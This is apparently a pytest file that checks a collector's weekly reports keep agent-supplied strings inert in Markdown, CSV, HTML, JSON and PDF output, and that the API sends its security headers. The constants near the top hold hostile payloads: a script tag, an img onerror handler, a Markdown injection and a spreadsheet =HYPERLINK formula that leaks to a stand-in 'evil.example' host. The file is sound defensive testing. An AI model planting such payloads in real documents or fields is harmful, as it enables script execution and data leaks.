"""Agent strings are data in every report format: no script, no Markdown structure, no spreadsheet formula.

A site, a department, an application and a version chosen by a hostile agent go through every renderer (from
a report dict, with newlines too), and through the real ingest, the `hinder report weekly` command and the
collector's report API (with its security headers).
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import subprocess
import sys
import zipfile

import httpx
import pytest

from collector.report.render import render
from contract import records
from tests.conftest import ADMIN_TOKEN, hinder_env
from tests.report import dataset as ds
from tests.report.conftest import need_chromium, need_poppler, synthetic_report

SITE = "<script>alert('site')</script>"
DEPARTMENT = '=HYPERLINK("http://evil.example/?leak","click me")'
APP = "# owned | @SUM(1) <img src=x onerror=alert(1)>"
VERSION = "-2+3|cmd"
NEWLINE_SITE = "Paris\n# Injected heading\n| a | b |"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _hostile_report() -> dict:
    """The synthetic report with every agent string replaced by a hostile one."""
    r = synthetic_report(min_group_size=1)
    for g in r["by_site"]:
        g["site"] = NEWLINE_SITE if g["site"] == "Paris" else SITE
    for g in r["by_department"]:
        g["department"] = DEPARTMENT
    for a in r["by_app"]:
        a["app"], a["version"] = APP, VERSION if a["version"] else a["version"]
        for v in a["versions"]:
            v["version"] = VERSION
    for d in r["repeat_devices"]:
        d.update(site=SITE, department=DEPARTMENT, main_app=APP)
    for s in r["connectivity"]["worst_sites"]:
        s["site"] = NEWLINE_SITE
    return r


def _csv_cells(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [cell for name in z.namelist() for row in csv.reader(io.StringIO(z.read(name).decode()))
                for cell in row]


def assert_markdown_inert(md: str) -> None:
    """No HTML tag, no heading but the report's own, no row with more cells than its table's header."""
    assert "<script" not in md and "<img" not in md
    own = {"# ", "## "}
    for line in md.splitlines():
        if line.startswith("#"):
            assert line.split(" ", 1)[0] + " " in own and "owned" not in line and "Injected" not in line, line
    header_cells = None
    for line in md.splitlines():
        if not line.startswith("|"):
            header_cells = None
            continue
        cells = len(re.split(r"(?<!\\)\|", line)) - 2
        header_cells = header_cells or cells
        assert cells == header_cells, line


def assert_csv_inert(data: bytes) -> None:
    """No cell a spreadsheet would read as a formula; numbers (negative ones too) still numbers."""
    cells = _csv_cells(data)
    for cell in cells:
        if cell.startswith(FORMULA_START):
            float(cell)  # only a number may start so
    assert "'" + DEPARTMENT in cells and "'" + VERSION in cells


def assert_html_inert(html: str) -> None:
    assert "<script" not in html and "<img" not in html and "&lt;script&gt;" in html
    assert '<meta http-equiv="Content-Security-Policy" content="default-src &#x27;none&#x27;' in html


def test_every_format_from_a_hostile_report():
    r = _hostile_report()
    md = render(r, "md").decode()
    assert_markdown_inert(md)
    assert "Paris \\# Injected heading \\| a \\| b \\|" in md and "&lt;script&gt;" in md
    assert_csv_inert(render(r, "csv"))
    html = render(r, "html").decode()
    assert_html_inert(html)
    assert json.loads(render(r, "json"))["by_department"][0]["department"] == DEPARTMENT  # JSON keeps the data


def test_negative_numbers_stay_numbers():
    r = synthetic_report()
    r["trend"][0]["lost_seconds"] = -12.5
    r["by_app"][0]["app"] = "-3"
    cells = _csv_cells(render(r, "csv"))
    assert "-12.5" in cells and "-3" in cells and "'-3" not in cells


@pytest.fixture
def hostile_db(tmp_path) -> str:
    """A SQLite database where five devices of a hostile site and department crash a hostile application,
    stored through the collector's ingest as agents would send it."""
    from collector.aggregates import marks
    from collector.aggregates.refresh import refresh
    from collector.config import parse_config
    from collector.db import make_engine
    from collector.ingest import Ingestor
    from collector.migrations import upgrade

    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    engine = make_engine(url)
    upgrade(engine)
    config = parse_config(_config(), overrides={"db": url}, env={})
    ingestor = Ingestor(engine, config, hooks=[marks.on_ingest])
    now = ds.MONDAY + 12 * 3600
    for i in range(5):
        heartbeats = [records.Heartbeat(time=ds.MONDAY + 9 * 3600 + k * 600, interval_s=600.0, active_s=600.0,
                                        os="linux", os_version="6.1", agent_version="0.1.0", site=SITE,
                                        department=DEPARTMENT).to_wire() for k in range(1, 13)]
        events = [records.Event(type="crash", app=APP, start=ds.MONDAY + 10 * 3600 + k * 60,
                                details={"app_version": VERSION}).to_wire() for k in range(2)]
        ingestor.store(records.make_batch(f"device-H{i}", events, heartbeats, now=now), now=now)
    refresh(engine, config)
    engine.dispose()
    return url


def _config() -> dict:
    return {"apps": [APP], "report": {"repeat_threshold": 2, "pseudonym_key": "test-key"}}


def _toml(tmp_path):
    path = tmp_path / "collector.toml"
    path.write_text(f"apps = {json.dumps([APP])}\n[report]\nrepeat_threshold = 2\npseudonym_key = \"test-key\"\n")
    return path


def test_the_command_line(hostile_db, tmp_path):
    outputs = {}
    for fmt in ("md", "csv", "html", "json"):
        out = tmp_path / f"report.{fmt}"
        r = subprocess.run([sys.executable, "-m", "hinder", "report", "weekly", "--db", hostile_db, "--config",
                            str(_toml(tmp_path)), "--week", ds.WEEK, "--format", fmt, "--out", str(out)],
                           capture_output=True, env=hinder_env(), timeout=180)
        assert r.returncode == 0, r.stderr.decode()
        outputs[fmt] = out.read_bytes()
    report = json.loads(outputs["json"])
    assert [g["site"] for g in report["by_site"]] == [SITE] and report["by_app"][0]["app"] == APP
    assert_markdown_inert(outputs["md"].decode())
    assert "&lt;script&gt;" in outputs["md"].decode() and "\\# owned \\| @SUM(1) &lt;img" in outputs["md"].decode()
    assert_csv_inert(outputs["csv"])
    assert_html_inert(outputs["html"].decode())


def test_the_api_and_its_headers(hostile_db, collector_factory, tmp_path):
    proc = collector_factory(db=hostile_db, args=("--config", str(_toml(tmp_path))))
    bodies = {}
    for fmt in ("md", "csv", "html", "json"):
        r = httpx.get(f"{proc.url}/api/v1/reports/weekly", params={"week": ds.WEEK, "format": fmt},
                      headers={"Authorization": f"Bearer {ADMIN_TOKEN}"}, timeout=120)
        assert r.status_code == 200, r.text
        assert r.headers["x-content-type-options"] == "nosniff"
        csp = r.headers["content-security-policy"]
        assert "default-src 'none'" in csp and "frame-ancestors 'none'" in csp and "script-src" not in csp
        bodies[fmt] = r.content
    assert_markdown_inert(bodies["md"].decode())
    assert_csv_inert(bodies["csv"])
    assert_html_inert(bodies["html"].decode())
    # the page's own style sheet is what the header's policy allows: the report renders as designed
    style = re.search(r"<style>(.*?)</style>", bodies["html"].decode(), re.S).group(1)
    assert f"'sha256-{base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()}'" in csp  # by hand


def test_the_pdf_shows_them_as_text(hostile_db, collector_factory, tmp_path):
    need_chromium()
    need_poppler()
    proc = collector_factory(db=hostile_db, args=("--config", str(_toml(tmp_path))))
    r = httpx.get(f"{proc.url}/api/v1/reports/weekly", params={"week": ds.WEEK, "format": "pdf"},
                  headers={"Authorization": f"Bearer {ADMIN_TOKEN}"}, timeout=120)
    assert r.status_code == 200 and r.content.startswith(b"%PDF-")
    (tmp_path / "r.pdf").write_bytes(r.content)
    text = subprocess.run(["pdftotext", "-raw", str(tmp_path / "r.pdf"), "-"], capture_output=True, text=True,
                          check=True).stdout
    assert SITE in text  # printed as the text it is, not run
